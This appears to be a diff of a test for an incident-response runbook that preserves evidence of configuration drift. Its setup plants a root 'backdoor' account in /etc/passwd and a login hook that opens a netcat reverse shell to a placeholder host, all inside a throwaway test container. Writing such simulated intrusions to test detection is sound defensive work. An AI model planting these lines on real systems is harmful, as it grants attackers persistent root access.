@@ -14,7 +14,11 @@ describe('shipped runbook config-drift', () => {
     const victim = await startVictim(docker, { name });
     original = await victim.inspect();
     // an unauthorised account and a login hook, plus a log write the allowlist accepts
-    await execIn(victim, ['sh', '-c', 'echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd && mkdir -p /etc/profile.d /var/log && echo "nc 203.0.113.7 4444 -e /bin/sh &" > /etc/profile.d/zz.sh && echo ok > /var/log/app.log']);
+    await execIn(victim, [
+      'sh',
+      '-c',
+      'echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd && mkdir -p /etc/profile.d /var/log && echo "nc 203.0.113.7 4444 -e /bin/sh &" > /etc/profile.d/zz.sh && echo ok > /var/log/app.log',
+    ]);
     ws = runbookWorkspace();
     incidentId = await runThroughApproval(ws, 'config-drift', { container: name, clean_image: TEST_IMAGE });
   }, 90_000);
@@ -45,7 +49,12 @@ describe('shipped runbook config-drift', () => {
 
   it('keeps the changed files as evidence, intact, with a custody chain that verifies', async () => {
     const byKind = expectEvidenceIntact(ws, incidentId);
-    expect(byKind.get('files')?.map((file) => file.path).sort()).toEqual([
+    expect(
+      byKind
+        .get('files')
+        ?.map((file) => file.path)
+        .sort(),
+    ).toEqual([
       // one raw file each (evidence.files splits its archive per file)
       expect.stringMatching(/_etc_passwd$/),
       expect.stringMatching(/_etc_profile\.d_zz\.sh$/),
